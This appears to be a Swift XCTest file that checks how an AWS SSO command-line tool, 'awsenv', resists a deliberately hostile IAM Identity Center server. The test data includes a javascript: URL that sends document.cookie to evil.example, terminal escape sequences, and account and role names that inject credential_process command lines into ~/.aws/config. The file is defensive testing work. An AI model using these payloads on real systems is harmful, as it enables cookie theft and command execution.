import Foundation
import XCTest

/// What a hostile IAM Identity Center answers, through the built binary in the sandbox, against
/// the local one (Tests/harness/sso_server.py) switched to misbehave: verification URLs that a
/// browser must not be handed (`file:`, `javascript:`, plain http to another host, terminal
/// controls), a user code with controls in it, and account and role names that try to write
/// lines into ~/.aws/config. The browser is an xdg-open on PATH that only records its argv.
final class HostileSSOTests: LocalServerTestCase {
  static let server = SharedServer("the local IAM Identity Center") { try SSOServer() }

  var server: SSOServer { get throws { try Self.server.get() } }

  override func setUp() async throws {
    try server.reset()
  }

  static let userConfig = """
    [default]
    region = us-east-1

    # my own profile
    [profile mine]
    region = eu-west-1

    """

  /// The config file every script starts with: the user's profiles and the sso-session.
  func startConfig() throws -> String {
    Self.userConfig + """
      [sso-session corp]
      sso_start_url = \(try server.startURL)
      sso_region = us-east-1
      sso_registration_scopes = sso:account:access

      """
  }

  /// Config, the recording browser and a display: the start of every script.
  func setup() throws -> String {
    """
    mkdir -p ~/.aws ~/bin
    printf '%s' \(shellQuote(try startConfig())) >~/.aws/config
    cat >~/bin/xdg-open <<'BROWSER'
    #!/bin/sh
    printf '%s\\0' "$@" >>"$HOME/opened"
    BROWSER
    chmod +x ~/bin/xdg-open
    export PATH="$HOME/bin:$PATH" DISPLAY=:99

    """
  }

  func sandbox(_ script: String) throws -> RunResult {
    let url = try server.url
    return try Harness.sandbox(
      script: try setup() + script,
      environment: ["AWS_ENDPOINT_URL_SSO": url, "AWS_ENDPOINT_URL_SSO_OIDC": url])
  }

  /// `awsenv login` with `behaviour` set on the server; the run and the argv the browser got
  /// (each call's arguments, in order).
  func login(_ behaviour: [String: Any]) throws -> (run: RunResult, opened: [String]) {
    try server.setBehaviour(behaviour)
    let run = try sandbox(
      """
      status=0
      timeout 60 awsenv login --sso-session corp || status=$?
      echo "status $status"
      if [ -e ~/opened ]; then base64 -w0 ~/opened; fi
      echo
      """)
    let lines = run.stdout.split(separator: "\n", omittingEmptySubsequences: false)
    let opened = Data(base64Encoded: String(lines.count > 1 ? lines[1] : "")) ?? Data()
    return (
      run,
      opened.split(separator: 0, omittingEmptySubsequences: false).dropLast()
        .map { String(decoding: $0, as: UTF8.self) }
    )
  }

  /// Fails unless `text` is free of every raw control a hostile server sent (ESC, BEL, CSI,
  /// OSC, the right-to-left override) and of bytes that are not UTF-8 (a lone C1 byte).
  func assertNoRawControls(
    _ text: String, _ what: String, file: StaticString = #filePath, line: UInt = #line
  ) {
    for control in ["\u{1B}", "\u{07}", "\u{9B}", "\u{9D}", "\u{202E}", "\u{FFFD}"] {
      XCTAssertFalse(
        text.contains(control), "\(what) has a raw \(control.debugDescription):\n\(text)",
        file: file, line: line)
    }
  }

  func userCode() throws -> String {
    try XCTUnwrap(server.deviceAuthorizations().last?.userCode)
  }

  // MARK: Verification URLs

  func testTheCodeURLIsOpenedWhenItIsLoopbackOrHTTPS() throws {
    // The positive control: the recording browser gets the server's own URL.
    let url = try server.url
    var (run, opened) = try login(["autoApprove": true])
    XCTAssertTrue(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
    let code = try userCode()
    XCTAssertEqual(opened, ["\(url)/device?user_code=\(code)"])
    XCTAssertTrue(run.stderr.contains("awsenv: opened it in your browser"), run.stderr)
    XCTAssertFalse(run.stderr.contains("verification URL"), run.stderr)

    // https to any host is opened too, also when the plain URL is not one to open.
    try server.reset()
    (run, opened) = try login([
      "autoApprove": true, "verificationUri": "file:///etc/passwd",
      "verificationUriComplete": "https://device.sso.us-east-1.amazonaws.com/?user_code={code}",
    ])
    XCTAssertTrue(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
    XCTAssertEqual(
      opened, ["https://device.sso.us-east-1.amazonaws.com/?user_code=\(try userCode())"])
    XCTAssertFalse(run.stderr.contains("verification URL"), run.stderr)
  }

  func testAHostileCodeURLIsNotOpenedAndThePlainOneIs() throws {
    let url = try server.url
    for complete in [
      "file:///etc/passwd\u{1B}]8;;https://evil.example/\u{07}click\u{1B}]8;;\u{07}\u{1B}[2J",
      "javascript:fetch('//evil.example/'+document.cookie)//{base}/device?user_code={code}",
      "http://attacker.example.net/device?user_code={code}",
      "{base}/device?user_code={code}\u{9B}31m\u{202E}",
    ] {
      try server.reset()
      let (run, opened) = try login([
        "autoApprove": true, "verificationUriComplete": complete,
        "userCode": "{code}\u{9B}31m\u{202E}\u{1B}[2J",
      ])
      let code = try userCode()
      // The user types the code on the plain page: the login goes on and completes.
      XCTAssertTrue(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
      XCTAssertEqual(opened, ["\(url)/device"], complete.debugDescription)
      assertNoRawControls(run.stderr, "stderr")
      XCTAssertTrue(
        run.stderr.contains(
          "awsenv: the verification URL with the code from IAM Identity Center is not an "
            + "https URL of printable characters, so the plain one is used; type the code there\n"
            + "awsenv: to sign in, open \(url)/device and confirm the code \(code)?31m??[2J\n"),
        run.stderr)
      XCTAssertTrue(run.stderr.contains("awsenv: signed in to sso-session corp"), run.stderr)
      XCTAssertFalse(run.stderr.contains("file:") || run.stderr.contains("javascript:"))
    }
  }

  func testNothingIsOpenedWhenNeitherURLIsSafeAndThePrintedOneIsSanitised() throws {
    let plain = "http://attacker.example.net/device\u{9B}0m\u{202E}moc.elpmaxe\u{1B}]8;;x\u{07}"
    for complete in ["file:///etc/passwd", "javascript:alert(1)", "{base}/\u{202E}device"] {
      try server.reset()
      let (run, opened) = try login([
        "autoApprove": true, "verificationUri": plain, "verificationUriComplete": complete,
      ])
      XCTAssertTrue(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
      XCTAssertEqual(opened, [], complete.debugDescription)
      assertNoRawControls(run.stderr, "stderr")
      XCTAssertTrue(
        run.stderr.contains(
          "awsenv: the verification URL from IAM Identity Center is not an https URL of "
            + "printable characters, so it was not opened; check it before you open it yourself\n"
            + "awsenv: to sign in, open http://attacker.example.net/device?0m?moc.elpmaxe?]8;;x? "
            + "and confirm the code \(try userCode())\n"),
        run.stderr)
      XCTAssertFalse(run.stderr.contains("opened it in your browser"), run.stderr)
    }
  }

  func testALoginWithOnlyHostileURLsThatIsNeverConfirmedFailsInOneLine() throws {
    let (run, opened) = try login([
      "deviceExpiresIn": 2, "verificationUri": "file:///etc/passwd\u{1B}[2J",
      "verificationUriComplete": "javascript:alert(1)", "userCode": "\u{202E}{code}",
    ])
    XCTAssertFalse(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
    XCTAssertEqual(opened, [])
    assertNoRawControls(run.stderr, "stderr")
    let lines = run.stderr.split(separator: "\n")
    XCTAssertTrue(lines.allSatisfy { $0.hasPrefix("awsenv: ") }, run.stderr)
    XCTAssertTrue(lines.last?.contains("login") ?? false, run.stderr)
    XCTAssertTrue(run.stderr.contains("open file:///etc/passwd?[2J and confirm"), run.stderr)
    XCTAssertEqual(try server.state()["tokensIssued"], 0)
  }

  // MARK: Account and role names

  /// Login, `sso sync`, then the config file (base64, so that its bytes come back as they are).
  func sync(_ accounts: [SSOServer.Account]) throws -> (run: RunResult, config: String) {
    var world = SSOServer.defaultWorld
    world.accounts = accounts
    try server.setWorld(world)
    try server.setBehaviour(["autoApprove": true])
    let run = try sandbox(
      """
      awsenv login --sso-session corp --no-browser 2>/dev/null
      cp ~/.aws/config ~/before
      status=0
      awsenv sso sync || status=$?
      echo "status $status"
      if [ "$status" != 0 ]; then
        cmp -s ~/before ~/.aws/config && echo "config unchanged"
        test ! -e ~/.aws/config.awsenv-backup && echo "no backup"
      fi
      base64 -w0 ~/.aws/config
      echo
      """)
    let last = run.stdout.split(separator: "\n").last.map(String.init) ?? ""
    let config = Data(base64Encoded: last).map { String(decoding: $0, as: UTF8.self) } ?? ""
    return (run, config)
  }

  func testHostileAccountNamesNameProfilesButWriteNoLineOfTheirOwn() throws {
    let hostile = [
      "Evil\n[profile injected]\ncredential_process = sh -c 'touch /tmp/pwned'\n",
      "]\r\n[default]\r\nregion = evil-1",
      "\u{1B}]8;;file:///etc/passwd\u{07}Prod\u{1B}]8;;\u{07}\u{9B}2J\u{202E}nimda",
      "[sso-session corp]\nsso_start_url = https://evil.example/start",
    ]
    let accounts = hostile.enumerated().map { index, name in
      SSOServer.Account(
        accountId: String(repeating: String(index + 1), count: 12), accountName: name,
        emailAddress: "a@example.com", roles: ["AdministratorAccess"])
    }
    let (run, config) = try sync(accounts)
    XCTAssertTrue(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
    assertNoRawControls(run.stdout, "stdout")
    assertNoRawControls(run.stderr, "stderr")
    XCTAssertTrue(run.stderr.contains("4 roles found; added 4: "), run.stderr)
    XCTAssertTrue(config.hasPrefix(try startConfig()), config)
    assertNoRawControls(config, "the config")
    XCTAssertFalse(config.contains("\r"), config)

    // Every line is the user's, a marker or comment, a profile header with a clean name, or
    // one of the four keys a synced profile has.
    var headers: [String] = []
    for line in config.dropFirst(try startConfig().count).split(separator: "\n").map(String.init) {
      if line.hasPrefix("# ") { continue }
      if line.hasPrefix("[") {
        headers.append(line)
        XCTAssertNotNil(
          line.wholeMatch(of: /\[profile [A-Za-z0-9._-]+\]/), "an injected section: \(line)")
        continue
      }
      XCTAssertNotNil(
        line.wholeMatch(
          of: /sso_session = corp|sso_account_id = [0-9]{12}|sso_role_name = AdministratorAccess/),
        "an injected line: \(line.debugDescription)")
    }
    XCTAssertEqual(headers.count, 4, config)
    XCTAssertFalse(config.contains("[profile injected]"), config)
    XCTAssertFalse(config.contains("[default]\nregion = evil"), config)
  }

  func testAHostileRoleNameOrAccountIDStopsTheSyncAndChangesNothing() throws {
    let cases: [(SSOServer.Account, String)] = [
      (
        SSOServer.Account(
          accountId: "111111111111", accountName: "Prod", emailAddress: "a@example.com",
          roles: ["Admin\n[profile injected]\ncredential_process = touch /tmp/pwned"]),
        #"the role name "Admin?[profile injected]?credential_process = touch /tmp/pwned""#
      ),
      (
        SSOServer.Account(
          accountId: "111111111111", accountName: "Prod", emailAddress: "a@example.com",
          roles: ["Admin\u{1B}]8;;x\u{07}\u{9B}\u{202E}"]),
        #"the role name "Admin?]8;;x???""#
      ),
      (
        SSOServer.Account(
          accountId: "111111111111", accountName: "Prod", emailAddress: "a@example.com",
          roles: [String(repeating: "A", count: 65)]),
        "the role name \"\(String(repeating: "A", count: 64))…\""
      ),
      (
        SSOServer.Account(
          accountId: "1111\n[x]\u{1B}[2J\u{202E}", accountName: "Prod",
          emailAddress: "a@example.com", roles: ["Admin"]),
        #"the account ID "1111?[x]?[2J?", which is not twelve digits"#
      ),
    ]
    for (account, named) in cases {
      try server.reset()
      let (run, config) = try sync([account])
      XCTAssertFalse(run.stdout.hasPrefix("status 0\n"), run.stdout + run.stderr)
      XCTAssertTrue(run.stdout.contains("config unchanged\nno backup\n"), run.stdout)
      assertNoRawControls(run.stdout, "stdout")
      assertNoRawControls(run.stderr, "stderr")
      XCTAssertEqual(config, try startConfig())
      let lines = run.stderr.split(separator: "\n")
      XCTAssertEqual(lines.count, 1, run.stderr)
      XCTAssertTrue(lines.first?.hasPrefix("awsenv: IAM Identity Center List") ?? false, run.stderr)
      XCTAssertTrue(run.stderr.contains(named), run.stderr)
    }
  }
}
